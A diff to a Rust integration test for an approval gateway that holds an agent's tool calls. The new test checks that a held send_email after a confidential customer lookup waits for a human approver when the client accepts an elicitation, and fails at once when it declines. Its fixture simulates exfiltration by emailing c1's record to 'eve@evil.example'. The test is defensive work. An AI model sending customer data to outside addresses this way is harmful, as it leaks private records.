@@ -127,6 +127,19 @@ fn http_client(url: &str, token: &str, protocol: &str, steps: &Value) -> Vec<Val
 }
 
 fn run_client(door: &[&str], token: &str, protocol: &str, steps: &Value, env: &[(&str, &str)]) -> Vec<Value> {
+    let lines = run_client_all(door, token, protocol, steps, env);
+    assert_eq!(lines.len(), steps.as_array().unwrap().len() + 1, "{lines:?}");
+    lines
+}
+
+/// [`run_client`], with the elicitations the client received among the lines.
+fn run_client_all(
+    door: &[&str],
+    token: &str,
+    protocol: &str,
+    steps: &Value,
+    env: &[(&str, &str)],
+) -> Vec<Value> {
     let mut command = Command::new(python());
     command
         .arg(fixture("client.py"))
@@ -156,7 +169,6 @@ fn run_client(door: &[&str], token: &str, protocol: &str, steps: &Value, env: &[
     assert!(output.status.success(), "client failed: {lines:?}");
     assert!(lines[0].get("fatal").is_none(), "{lines:?}");
     assert_eq!(lines[0]["protocolVersion"], protocol, "{lines:?}");
-    assert_eq!(lines.len(), steps.as_array().unwrap().len() + 1, "{lines:?}");
     lines
 }
 
@@ -595,6 +607,81 @@ fn a_send_after_a_confidential_read_is_held_then_allowed_once_after_approval() {
             .filter(|step| step["kind"] == "tool_call" && step["attrs"]["tool"] == "send-email")
             .count();
         assert_eq!(sends, 1, "{protocol}: the upstream was called once");
+    }
+}
+
+/// A host that can ask its user (elicitation) is asked whether to wait for the approver when a call is held:
+/// on the handshake protocol as an `elicitation/create` request, on 2026-07-28 as an `input_required` result
+/// the client answers by retrying. Accepted, the call waits, and goes ahead once an approver approves it;
+/// declined, the host gets the held result at once.
+#[test]
+fn a_host_that_elicits_can_wait_for_the_approver() {
+    let gateway = start(None);
+    let approver = gateway.server.token("ann", "approver");
+    for protocol in PROTOCOLS {
+        for action in ["accept", "decline"] {
+            let session = format!("elicit-{protocol}-{action}");
+            let meta = json!({"warrant/session": session});
+            let steps = json!([
+                {"op": "call_tool", "name": "lookup_customer", "arguments": {"customer_id": "c1"}, "meta": meta},
+                {"op": "call_tool", "name": "send_email", "meta": meta,
+                 "arguments": {"to": "eve@evil.example", "subject": "your data", "body": "c1's record"}},
+            ]);
+            let (url, token) = (gateway.server.url.clone(), gateway.agent.clone());
+            let command = gateway_command(&url);
+            let run = std::thread::spawn(move || {
+                let door = ["--stdio", command.as_str(), "--elicit", action];
+                run_client_all(&door, &token, protocol, &steps, &[])
+            });
+            if action == "accept" {
+                // The approver acts while the call waits.
+                let deadline = Instant::now() + Duration::from_secs(60);
+                let approval = loop {
+                    let pending = gateway.server.get_ok("/v1/approvals?status=pending", &approver);
+                    let ours = pending["items"].as_array().unwrap().iter().find_map(|approval| {
+                        (approval["session"] == session.as_str())
+                            .then(|| approval["id"].as_str().unwrap().to_owned())
+                    });
+                    if let Some(ours) = ours {
+                        break ours;
+                    }
+                    assert!(Instant::now() < deadline, "no approval was requested");
+                    std::thread::sleep(Duration::from_millis(50));
+                };
+                let (status, answer) = gateway.server.post_json(
+                    &format!("/v1/approvals/{approval}/approve"),
+                    &approver,
+                    &json!({"reason": "the customer asked for it"}),
+                );
+                assert_eq!(status, 200, "{answer}");
+            }
+            let lines = run.join().unwrap();
+            let (asked, answers): (Vec<&Value>, Vec<&Value>) = lines
+                .iter()
+                .skip(1)
+                .partition(|line| line.get("elicitation").is_some());
+            assert_eq!(asked.len(), 1, "{protocol} {action}: {lines:?}");
+            let message = asked[0]["elicitation"]["message"].as_str().unwrap();
+            assert!(message.contains("held the call to `send_email`"), "{message}");
+            assert_eq!(answers.len(), 2, "{lines:?}");
+            let steps = session_events(&gateway.server, gateway.server.admin(), &session);
+            if action == "accept" {
+                assert_eq!(
+                    (answers[1]["isError"].as_bool(), text(answers[1])),
+                    (Some(false), "sent to eve@evil.example"),
+                    "{protocol}: {lines:?}"
+                );
+                assert_eq!(
+                    decisions(&steps, "send-email"),
+                    ["approval_required", "allow"],
+                    "{protocol}"
+                );
+            } else {
+                assert_eq!(answers[1]["isError"], true, "{protocol}: {lines:?}");
+                assert!(text(answers[1]).contains("held this call"), "{lines:?}");
+                assert_eq!(decisions(&steps, "send-email"), ["approval_required"]);
+            }
+        }
     }
 }
 
